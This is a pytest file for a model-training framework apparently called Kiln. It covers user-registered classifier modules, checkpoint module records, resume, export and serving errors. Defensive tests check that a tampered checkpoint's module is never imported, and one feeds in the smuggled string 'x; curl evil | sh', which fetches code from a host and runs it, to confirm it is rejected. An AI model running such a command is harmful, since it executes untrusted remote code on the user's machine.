"""A classifier of the user's own (README, "Your own classifier"): a module of theirs registers it,
``--models-from`` imports it for training and export, and the checkpoint names that module, which
nothing imports unless the user names it. The modules that register models run in subprocesses only: registering in the test process
would add models every test parametrized over the registry meets (and its coverage guards refuse)."""

from __future__ import annotations

import base64
import io
import json
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import numpy as np
import pytest
import torch
from torch import nn

from export import __main__ as export_main
from training import classify, classify_config, classify_resolve
from training.checkpoint import CheckpointError, load_checkpoint, rebuild_model
from training.models import list_models
from training.models.registry import ModelModuleError, ensure_registered, import_modules

ROOT = Path(__file__).resolve().parent.parent
SIZE = 16
TIMEOUT_S = 240  # a failure bound for one command, never waited out by a run that works

MYNETS = '''
from dataclasses import dataclass

import torch
from torch import nn

from training.models import register_model
from training.models.layers import ClassifierConfig


@dataclass
class SmallNetConfig(ClassifierConfig):
    width: int = 32


class SmallNet(nn.Module):
    def __init__(self, config):
        super().__init__()
        w = config.width
        self.features = nn.Sequential(
            nn.Conv2d(config.in_channels, w, 3, padding=1, bias=False), nn.BatchNorm2d(w), nn.ReLU(),
            nn.AdaptiveAvgPool2d(4),
        )
        self.head = nn.Linear(w * 16, config.num_classes)

    def forward(self, x):
        return self.head(self.features(x).flatten(1))


class Branchy(nn.Module):
    """Trains, but branches on a value: torch.export cannot trace it (nor can the meta device run it)."""

    def __init__(self, config):
        super().__init__()
        self.conv = nn.Conv2d(config.in_channels, 4, 3, padding=1)
        self.head = nn.Linear(4, config.num_classes)

    def forward(self, x):
        x = self.conv(x).mean((2, 3))
        if x.nonzero().shape[0] > 0:
            x = x * 2
        return self.head(x)


@register_model("smallnet", task="classify", config=SmallNetConfig)
def smallnet(config):
    return SmallNet(config)


@register_model("branchy", task="classify", config=SmallNetConfig)
def branchy(config):
    return Branchy(config)
'''

TINY_RUN = ["--image-size", str(SIZE), "--limit-train", "64", "--limit-val", "32", "--epochs", "1"]
TINY_RUN += ["--batch-size", "32", "--no-progress", "--seed", "0"]


def run(args: list[str], pythonpath: Path | None) -> subprocess.CompletedProcess:
    """``python ARGS`` from the repository root with ``pythonpath`` (and no other) on PYTHONPATH."""
    env = {k: v for k, v in os.environ.items() if k not in ("PYTHONPATH", "KILN_MODELS_FROM")}
    env.update(OMP_NUM_THREADS="1", **({"PYTHONPATH": str(pythonpath)} if pythonpath else {}))
    return subprocess.run(
        [sys.executable, *args], cwd=ROOT, env=env, capture_output=True, text=True, timeout=TIMEOUT_S
    )


@pytest.fixture(scope="module")
def trained(tmp_path_factory) -> dict[str, Path]:
    """``mynets.py`` in a directory of its own, both its models trained by the CLI (one process, smallnet
    resumed for a second epoch), and both exported by ``python -m export --models-from mynets``."""
    root = tmp_path_factory.mktemp("own")
    (root / "modules").mkdir()
    (root / "modules" / "mynets.py").write_text(MYNETS)
    checkpoints = root / "checkpoints"
    train = ["--models-from", "mynets", *TINY_RUN, "--output-dir", str(checkpoints), "--model-arg", "width=4"]
    resume = ["--resume", str(checkpoints / "smallnet.pt"), "--epochs", "2", "--no-progress"]
    resume += ["--models-from", "mynets"]
    runs = [[*train, "--model", "smallnet"], resume, [*train, "--model", "branchy"]]
    script = f"import sys; from training.classify import main; sys.exit(any(main(argv) for argv in {runs!r}))"
    trained = run(["-c", script], root / "modules")
    assert trained.returncode == 0, trained.stderr[-3000:]
    repository = root / "repository"
    paths = [str(checkpoints / "smallnet.pt"), str(checkpoints / "branchy.pt")]
    exported = run(
        ["-m", "export", *paths, "--repository", str(repository), "--no-progress", "--models-from", "mynets"],
        root / "modules",
    )
    return {"root": root, "checkpoints": checkpoints, "repository": repository, "export": exported}


def test_the_cli_trains_a_model_its_module_registers_and_the_checkpoint_names_that_module(trained):
    ckpt = load_checkpoint(trained["checkpoints"] / "smallnet.pt")  # weights_only: the record is a string
    args = {"num_classes": 10, "in_channels": 1, "width": 4}
    assert ckpt["model"] == {"name": "smallnet", "args": args, "module": "mynets"}
    assert ckpt["train_config"]["models_from"] == ["mynets"]
    recipe = classify_config.DEFAULT_RECIPE
    assert (ckpt["train_config"]["optimizer"], ckpt["train_config"]["lr"]) == (recipe.optimizer, recipe.lr)


def test_a_resumed_run_records_its_modules_and_one_that_names_none_is_refused_naming_them(trained):
    """The resume state names the run's modules, for the refusal of a ``--resume`` that names none: a
    file's record is never imported (importing runs the module's code)."""
    state = torch.load(trained["checkpoints"] / "smallnet.resume.pt", weights_only=True)
    assert state["epoch"] == 2 and state["train_config"]["models_from"] == ["mynets"]
    resume = ["--resume", str(trained["checkpoints"] / "smallnet.pt"), "--epochs", "3", "--no-progress"]
    script = f"import sys; from training.classify import main; sys.exit(main({resume!r}))"
    refused = run(["-c", script], trained["root"] / "modules")
    assert refused.returncode == 2
    assert refused.stderr.strip().splitlines()[-1] == (
        "error: model 'smallnet' is not registered; the file says mynets registers it: pass "
        "--models-from mynets (or KILN_MODELS_FROM=mynets) if you trust it (Kiln imports only the modules "
        "you name: importing one runs its code)"
    )


def test_a_model_the_meta_device_cannot_run_still_trains(trained):
    """``x.nonzero()`` has no meta kernel: the image-size check on the meta device raised
    NotImplementedError, a traceback before training, for a model that trains on the CPU."""
    assert load_checkpoint(trained["checkpoints"] / "branchy.pt")["model"]["module"] == "mynets"


def test_export_models_from_imports_the_module_and_the_entry_passes_parity_and_classifies(trained):
    meta = json.loads((trained["repository"] / "smallnet" / "kiln.json").read_text())
    assert meta["model"]["module"] == "mynets" and meta["parity"]["passed"] is True
    assert meta["parity"]["freeze"]["folded_batchnorms"] == 1
    from fastapi.testclient import TestClient
    from PIL import Image

    from serving.app import create_app
    from serving.settings import Settings

    repository = trained["root"] / "served"
    shutil.copytree(trained["repository"] / "smallnet", repository / "smallnet")
    buffer = io.BytesIO()
    Image.fromarray(np.zeros((SIZE, SIZE), np.uint8), "L").save(buffer, "PNG")
    image = base64.b64encode(buffer.getvalue()).decode()
    with TestClient(create_app(Settings(model_repository=repository, grpc_port=0))) as client:
        answer = client.post("/v1/models/smallnet/classify", json={"images": [image], "top_k": 3})
    assert answer.status_code == 200, answer.text
    assert len(answer.json()["predictions"][0]) == 3


def test_a_model_torch_export_cannot_trace_fails_export_in_one_line_naming_the_model_and_its_line(trained):
    exported = trained["export"]
    assert exported.returncode == 1
    assert "Traceback" not in exported.stderr
    line = exported.stderr.strip().splitlines()[-1]
    assert line.startswith(f"export failed: {trained['checkpoints'] / 'branchy.pt'}: model 'branchy' cannot")
    assert "mynets.py:" in line and "x.nonzero()" in line and "no Python branch on a tensor's values" in line
    assert (trained["repository"] / "smallnet" / "kiln.json").is_file()  # the one before it was written
    assert not (trained["repository"] / "branchy").exists()


def test_export_models_from_imports_a_module_that_moved_from_where_the_checkpoint_says(trained, tmp_path):
    moved = tmp_path / "elsewhere"
    moved.mkdir()
    shutil.copy(trained["root"] / "modules" / "mynets.py", moved / "othernets.py")
    # smallnet is up to date there: rebuilt from its checkpoint (what needs the module), then skipped
    repository = shutil.copytree(trained["repository"], tmp_path / "repo")
    args = [str(trained["checkpoints"] / "smallnet.pt"), "--repository", str(repository), "--no-progress"]
    exported = run(["-m", "export", *args, "--models-from", "othernets"], moved)
    assert exported.returncode == 0, exported.stderr[-3000:]
    assert re.search(r"smallnet +│ fp32 .* up to date", exported.stdout), exported.stdout


def test_export_never_imports_the_module_a_checkpoint_names_it_says_which_to_name(trained, tmp_path, capsys):
    """A checkpoint is read weights_only so that reading one runs no code: the module it names (here one
    that would leave a mark, beside it in the current directory) is named in the refusal, not imported."""
    evil = tmp_path / "kiln_test_evil.py"
    evil.write_text(f"open({str(tmp_path / 'ran')!r}, 'w').close()\n")
    ckpt = load_checkpoint(trained["checkpoints"] / "smallnet.pt")
    ckpt["model"]["module"] = "kiln_test_evil"
    tampered = tmp_path / "smallnet.pt"
    torch.save(ckpt, tampered)
    sys.path.insert(0, str(tmp_path))
    try:
        code = export_main.main([str(tampered), "--repository", str(tmp_path / "repo"), "--no-progress"])
    finally:
        sys.path.remove(str(tmp_path))
    err = capsys.readouterr().err.strip()
    assert code == 1 and not (tmp_path / "ran").exists() and "kiln_test_evil" not in sys.modules
    assert len(err.splitlines()) == 1, err
    assert err.startswith(f"export failed: {tampered}: model 'smallnet' is not registered; the file says ")
    assert "--models-from kiln_test_evil" in err and "smallnet" not in list_models()


# --- in this process: modules that fail to import register nothing ----------------------------------


@pytest.fixture
def modules(tmp_path, monkeypatch) -> Iterator[Path]:
    """A directory on sys.path for the test's modules, which are forgotten afterwards."""
    monkeypatch.syspath_prepend(str(tmp_path))
    yield tmp_path
    for name in [n for n in sys.modules if n.startswith("kiln_test_")]:
        del sys.modules[name]


def test_registering_a_name_the_zoo_has_is_refused_in_one_line_naming_its_owner(modules, capsys):
    (modules / "kiln_test_dup.py").write_text(
        "from dataclasses import dataclass\n"
        "from training.models import register_model\n"
        "from training.models.layers import ClassifierConfig\n"
        "@dataclass\nclass C(ClassifierConfig):\n    pass\n"
        "@register_model('lenet', task='classify', config=C)\n"
        "def mine(config):\n    raise AssertionError\n"
    )
    before = list_models()
    assert classify.main(["--models-from", "kiln_test_dup", "--model", "lenet", *TINY_RUN]) == 2
    assert capsys.readouterr().err == (
        "error: importing model module 'kiln_test_dup' failed: ValueError: model 'lenet' is already "
        f"registered (by training.models.lenet); register yours under another name ({modules / 'kiln_test_dup.py'}:7)\n"
    )
    assert list_models() == before


@pytest.mark.parametrize(
    ("source", "message"),
    [
        (
            "x = 1\nraise RuntimeError('no GPU\\nhere')\n",
            r"failed: RuntimeError: no GPU here \(.*kiln_test_bad\.py:2\)$",
        ),
        (
            "import kiln_test_missing_dependency\n",
            r"failed: ModuleNotFoundError: No module named 'kiln_test_missing",
        ),
        ("def f(:\n", r"failed: SyntaxError: .*\(kiln_test_bad\.py, line 1\)$"),
    ],
)
def test_a_module_that_raises_on_import_is_one_line_naming_it_and_where(modules, source, message):
    (modules / "kiln_test_bad.py").write_text(source)
    with pytest.raises(ModelModuleError, match=message) as raised:
        import_modules(["kiln_test_bad"])
    assert str(raised.value).startswith("importing model module 'kiln_test_bad' failed: ")


@pytest.mark.parametrize(
    ("module", "message"),
    [
        ("kiln_test_nowhere", "no module named 'kiln_test_nowhere' on the Python path; .* PYTHONPATH"),
        ("nets/mynets.py", "give a module name as `import` takes it"),
    ],
)
def test_a_module_that_cannot_be_found_says_what_to_do(modules, module, message):
    with pytest.raises(ModelModuleError, match=message):
        import_modules([module])


def test_the_models_from_variable_adds_its_modules_to_the_flags(monkeypatch):
    monkeypatch.setenv("KILN_MODELS_FROM", "a, b.c")
    config = classify.config_from_args(classify.build_parser().parse_args(["--models-from", "d"]))
    assert config.models_from == ["a", "b.c", "d"]


def test_a_checkpoint_naming_a_module_that_registers_other_names_or_a_script_is_refused(modules, monkeypatch):
    (modules / "kiln_test_empty.py").write_text("")
    monkeypatch.setenv("KILN_MODELS_FROM", "kiln_test_empty")  # named by the user: imported
    with pytest.raises(ModelModuleError, match="the file says kiln_test_empty registers it"):
        ensure_registered("kiln_test_ghost", "kiln_test_empty")
    assert "kiln_test_empty" in sys.modules
    monkeypatch.delenv("KILN_MODELS_FROM")
    ckpt = {"task": "classify", "model": {"name": "kiln_test_ghost", "args": {}, "module": "__main__"}}
    with pytest.raises(CheckpointError, match="registered by a script run as __main__"):
        rebuild_model(ckpt)


class FourD(nn.Module):
    def __init__(self) -> None:
        super().__init__()
        self.head = nn.Conv2d(1, 2, 1)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.head(x)  # (B, 2, H, W): a head left 4-D


class TenClasses(nn.Module):
    def __init__(self) -> None:
        super().__init__()
        self.head = nn.Linear(1, 10)  # not from num_classes

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.head(x.mean((2, 3)))


@pytest.mark.parametrize(("model", "shape"), [(FourD(), r"\(2, 2, 16, 16\)"), (TenClasses(), r"\(2, 10\)")])
def test_a_model_whose_logits_are_not_batch_by_classes_is_refused_before_training(model, shape):
    with pytest.raises(
        ValueError, match=rf"--model mine: its eval forward gives {shape} .* \(B, num_classes\)"
    ):
        classify_resolve.check_logits("mine", model, SIZE)


def test_the_readme_gives_the_default_recipe_as_the_code_has_it():
    text = (ROOT / "README.md").read_text()
    section = text[text.index("## Your own classifier") : text.index("## Results")]
    recipe = classify_config.DEFAULT_RECIPE
    stated = re.search(
        r"\((\d+) epochs, AdamW, lr ([\d.]+), weight decay ([\d.]+), (\w+) schedule, batch\s+size (\d+)",
        section,
    )
    assert stated, "the README no longer states the default recipe"
    assert recipe.optimizer == "adamw"
    assert (int(stated[1]), float(stated[2]), float(stated[3]), stated[4], int(stated[5])) == (
        recipe.epochs,
        recipe.lr,
        recipe.weight_decay,
        recipe.schedule,
        recipe.batch_size,
    )


def test_a_model_registered_through_a_helper_of_the_users_records_the_module_being_imported(modules):
    """``register_model`` wrapped in a helper module recorded the helper (already imported, registering
    nothing when imported again), not the module whose import registers the model."""
    import importlib

    from training.models import registry

    (modules / "kiln_test_helpers.py").write_text(
        "from training.models import register_model\n"
        "from training.models.layers import ClassifierConfig\n"
        "def classifier(name):\n    return register_model(name, task='classify', config=ClassifierConfig)\n"
    )
    (modules / "kiln_test_nets.py").write_text(
        "from kiln_test_helpers import classifier\n@classifier('kiln_test_wrapped')\ndef wrapped(config):\n"
        "    raise AssertionError\n"
    )
    try:
        import_modules(["kiln_test_helpers", "kiln_test_nets"])
        assert registry.get_entry("kiln_test_wrapped").module == "kiln_test_nets"
        importlib.reload(sys.modules["kiln_test_nets"])  # a notebook's edit-and-reload registers it again
        assert registry.get_entry("kiln_test_wrapped").module == "kiln_test_nets"
    finally:
        registry._REGISTRY.pop("kiln_test_wrapped", None)


def test_an_export_failure_of_a_zoo_model_asks_for_a_report_not_a_change_to_the_users_forward():
    from export.pipeline import not_exportable

    zoo = not_exportable("lenet", RuntimeError("an op torch lost"))
    assert zoo.endswith("a model of Kiln's own: please report it with this line") and "README" not in zoo
    assert "(README, 'Your own classifier')" in not_exportable("not_in_the_zoo", RuntimeError("x"))


def test_a_files_module_record_is_named_only_when_it_is_a_module_name(monkeypatch):
    """The record comes from the file: text that is no module name (a shell command, terminal escapes)
    is not offered as advice to copy; several modules are one flag each."""
    monkeypatch.delenv("KILN_MODELS_FROM", raising=False)
    with pytest.raises(ModelModuleError, match="the file names no valid module") as refused:
        ensure_registered("kiln_test_ghost", "x; curl evil | sh")
    assert "curl" not in str(refused.value)
    with pytest.raises(ModelModuleError, match="pass --models-from a.b --models-from c "):
        ensure_registered("kiln_test_ghost", "a.b,c")


def test_a_builder_made_inside_a_helper_registers_once_under_a_name(modules):
    """Two modules registering one name through a helper's closure replaced each other silently (the
    same module and qualname, ``make.<locals>.build``, looked like a reload)."""
    from training.models import registry

    (modules / "kiln_test_maker.py").write_text(
        "from training.models import register_model\n"
        "from training.models.layers import ClassifierConfig\n"
        "def make(name):\n"
        "    @register_model(name, task='classify', config=ClassifierConfig)\n"
        "    def build(config):\n        raise AssertionError\n"
        "    return build\n"
    )
    try:
        import_modules(["kiln_test_maker"])
        sys.modules["kiln_test_maker"].make("kiln_test_made")
        with pytest.raises(ValueError, match="'kiln_test_made' is already registered"):
            sys.modules["kiln_test_maker"].make("kiln_test_made")
    finally:
        registry._REGISTRY.pop("kiln_test_made", None)
